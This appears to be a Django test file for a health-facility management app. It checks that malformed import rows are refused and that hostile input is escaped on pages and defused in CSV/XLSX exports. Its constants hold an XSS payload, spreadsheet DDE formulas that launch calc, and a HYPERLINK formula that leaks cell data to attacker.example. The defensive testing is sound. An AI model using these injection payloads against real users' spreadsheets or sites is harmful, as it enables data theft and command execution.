"""Rows that are read but wrong (duplicates, unknown codes, dates and numbers out of range)
and rows that are right but hostile (HTML/JS, spreadsheet formulas): refused with row,
column and reason and nothing saved, or stored as the very text typed, shown escaped on
every page, and exported so that no spreadsheet runs it."""

import csv
import datetime
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from doha.catalog.importexport import import_techniques
from doha.catalog.models import Technique
from doha.orgunits.importexport import import_org_units
from doha.orgunits.models import OrgUnit
from doha.vaccines import coldchain
from tests.catalog.factories import SpecialtyFactory
from tests.malformed.conftest import csv_upload, unchanged_database, xlsx_upload
from tests.mixins import new_client

SCRIPT = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
HEADER = ["code", "name", "facility_type", "parent_code", "opening_date"]


def facility(code="BN-TYT-LIM", name="Trạm Y tế Thị trấn Lim", **changes):
    row = {
        "code": code,
        "name": name,
        "facility_type": "commune_station",
        "parent_code": "BN-TTYT-TIENDU",
        "opening_date": "01/03/2024",
    }
    row.update(changes)
    return [row[k] for k in HEADER]


def errors(report):
    return [(e.row, e.field, e.message) for e in report.errors]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(
    "rows, row, field, reason",
    [
        ([facility(), facility()], 3, "Code", "repeated"),
        ([facility(parent_code="KHONG-CO")], 2, "Parent unit code", "KHONG-CO"),
        ([facility(facility_type="benh_vien_ma")], 2, "Type", "benh_vien_ma"),
        ([facility(opening_date="31/02/2024")], 2, "Opening date", "Not a date"),
        ([facility(opening_date="01/01/1800")], 2, "Opening date", "out of range"),
        ([facility(opening_date="01/01/2999")], 2, "Opening date", "out of range"),
        ([facility(opening_date="99999")], 2, "Opening date", "Not a date"),
        ([facility(name="x" * 600)], 2, "Name", "at most"),
    ],
    ids=[
        "duplicate",
        "unknown_parent",
        "unknown_type",
        "no_such_day",
        "too_old",
        "too_far_ahead",
        "number_as_date",
        "too_long",
    ],
)
def test_facility_rows_refused_with_row_column_reason(users, fmt, rows, row, field, reason):
    upload = csv_upload([HEADER, *rows]) if fmt == "csv" else xlsx_upload([HEADER, *rows])
    with unchanged_database():
        report = import_org_units(upload, users.doh)
    found = [e for e in report.errors if e.row == row]
    assert found, errors(report)
    assert found[0].field == field, errors(report)
    assert reason in found[0].message, errors(report)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_html_in_a_facility_name_is_stored_as_text_and_escaped(users, fmt):
    rows = [HEADER, facility(name=SCRIPT)]
    upload = csv_upload(rows) if fmt == "csv" else xlsx_upload(rows)
    report = import_org_units(upload, users.doh)
    assert report.ok, errors(report)
    unit = OrgUnit.objects.get(code="BN-TYT-LIM")
    assert unit.name == SCRIPT
    client = new_client()
    client.force_login(users.doh)
    for url in (f"/orgunits/{unit.uid}/", "/orgunits/", "/orgunits/tree/"):
        page = client.get(url).content.decode()
        assert "<script>alert" not in page and "<img src=x" not in page, url
    detail = client.get(f"/orgunits/{unit.uid}/").content.decode()
    assert "&lt;script&gt;alert(" in detail


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("formula", FORMULAS, ids=["hyperlink", "plus", "minus", "at"])
def test_formulas_are_stored_as_the_text_typed(users, fmt, formula):
    rows = [HEADER, facility(name=formula)]
    upload = csv_upload(rows) if fmt == "csv" else xlsx_upload(rows)
    report = import_org_units(upload, users.doh)
    assert report.ok, errors(report)
    assert OrgUnit.objects.get(code="BN-TYT-LIM").name == formula


def exported(client, url, fmt):
    response = client.get(url, {"export": fmt})
    assert response.status_code == 200
    if fmt == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    book = load_workbook(io.BytesIO(response.content))
    return [[cell for cell in row] for row in book.active.iter_rows()]


@pytest.mark.parametrize("formula", FORMULAS, ids=["hyperlink", "plus", "minus", "at"])
def test_facility_export_never_writes_a_formula(users, network, formula):
    unit = network.tyt_tien_du
    unit.name = formula
    unit.save()
    client = new_client()
    client.force_login(users.doh)
    rows = exported(client, "/orgunits/", "csv")
    cells = [c for r in rows for c in r]
    assert "'" + formula in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    sheet = exported(client, "/orgunits/", "xlsx")
    cells = [c for r in sheet for c in r if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for r in sheet for c in r)


def test_negative_numbers_and_phone_numbers_are_not_quoted():
    from doha.core.tabular import csv_safe

    assert csv_safe(-5) == -5
    assert csv_safe("-5") == "-5"
    assert csv_safe("-12,5") == "-12,5"
    assert csv_safe("+84912345678") == "+84912345678"
    assert csv_safe("=1+1") == "'=1+1"
    assert csv_safe("-1+cmd|x") == "'-1+cmd|x"
    assert csv_safe("\t=1") == "'\t=1"


# The technique catalogue.


@pytest.fixture
def chapter(db):
    return SpecialtyFactory(code="03", name="Nhi khoa", order=3)


CATALOGUE_HEADER = ["Chương", "Mã", "Tên kỹ thuật", "Ban đầu", "Cơ bản", "Chuyên sâu"]


def test_catalogue_refuses_unknown_chapter_and_duplicate_code(chapter):
    rows = [
        CATALOGUE_HEADER,
        ["03", "03.0001", "Đặt nội khí quản", "", "x", "x"],
        ["03", "03.0001", "Đặt nội khí quản (lặp)", "", "x", "x"],
        ["77", "77.0001", "Chương không có", "", "x", ""],
    ]
    with unchanged_database():
        report = import_techniques(csv_upload(rows))
    assert [(e.row, e.field) for e in report.errors] == [(3, "Code"), (4, "Chapter")]


def test_catalogue_html_and_formula_are_text_and_escaped(users, chapter):
    rows = [
        CATALOGUE_HEADER,
        ["03", "03.0001", SCRIPT, "", "x", "x"],
        ["03", "03.0002", FORMULAS[0], "", "x", ""],
    ]
    report = import_techniques(xlsx_upload(rows))
    assert report.ok, errors(report)
    hostile = Technique.objects.get(code="03.0001")
    assert hostile.name == SCRIPT
    assert Technique.objects.get(code="03.0002").name == FORMULAS[0]
    client = new_client()
    client.force_login(users.doh)
    for url in (f"/catalog/techniques/{hostile.pk}/", "/catalog/"):
        page = client.get(url).content.decode()
        assert "<script>alert" not in page and "<img src=x" not in page, url


# Cold-chain logger files.


def reading_rows(cells):
    return [["timestamp", "temperature"], *cells]


def when(hours_ago):
    moment = timezone.now().replace(second=0, microsecond=0) - datetime.timedelta(hours=hours_ago)
    return timezone.localtime(moment).strftime("%d/%m/%Y %H:%M")


@pytest.mark.parametrize(
    "cells, row, field, reason",
    [
        ([[when(2), "5"], [when(2), "7"]], 3, "timestamp", ""),
        ([[when(2), "1e309"]], 2, "temperature", "Not a temperature"),
        ([[when(2), "NaN"]], 2, "temperature", ""),
        ([[when(2), "-300"]], 2, "temperature", ""),
        ([[when(2), "=1+1"]], 2, "temperature", "Not a temperature"),
        ([["01/01/1900 10:00", "5"]], 2, "timestamp", "logger's clock"),
        ([["01/01/2999 10:00", "5"]], 2, "timestamp", ""),
        ([["31/02/2025 10:00", "5"]], 2, "timestamp", "Not a date and time"),
    ],
    ids=[
        "same_time_two_temperatures",
        "overflow",
        "nan",
        "below_absolute_zero",
        "formula",
        "year_1900",
        "year_2999",
        "no_such_day",
    ],
)
def test_logger_rows_refused_with_row_column_reason(cdc, cells, row, field, reason):
    with unchanged_database():
        report = coldchain.upload_readings(
            cdc.centre_fridge, csv_upload(reading_rows(cells)), user=cdc.cdc_clerk
        )
    found = [e for e in report.errors if e.row == row]
    assert found and found[0].field == field, errors(report)
    assert reason in found[0].message


def test_logger_duplicate_rows_count_once(cdc):
    cells = [[when(2), "5"], [when(2), "5"], [when(1), "6"]]
    report = coldchain.upload_readings(
        cdc.centre_fridge, csv_upload(reading_rows(cells)), user=cdc.cdc_clerk
    )
    assert report.ok, errors(report)
    assert cdc.centre_fridge.readings.count() == 2


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_shared_export_neutralises_formulas_in_headers_and_cells(fmt):
    """``doha.core.tabular.export_response`` writes every list export of doha (facilities,
    techniques, workers, rotations, courses, telehealth, donations, vaccines, analytics)."""
    from doha.core.tabular import export_response

    rows = [[f, -5, 12.5, "+84912345678", SCRIPT] for f in FORMULAS]
    response = export_response(["=Header", "n", "x", "phone", "html"], rows, fmt, "thu")
    if fmt == "csv":
        table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert table[0][0] == "'=Header"
        assert [r[0] for r in table[1:]] == ["'" + f for f in FORMULAS]
        assert {r[1] for r in table[1:]} == {"-5"} and {r[3] for r in table[1:]} == {"+84912345678"}
        assert {r[4] for r in table[1:]} == {SCRIPT}  # a CSV cell is never HTML
    else:
        sheet = list(load_workbook(io.BytesIO(response.content)).active.iter_rows())
        assert not any(c.data_type == "f" for r in sheet for c in r)
        assert [r[0].value for r in sheet[1:]] == FORMULAS
        assert {r[1].value for r in sheet[1:]} == {-5}
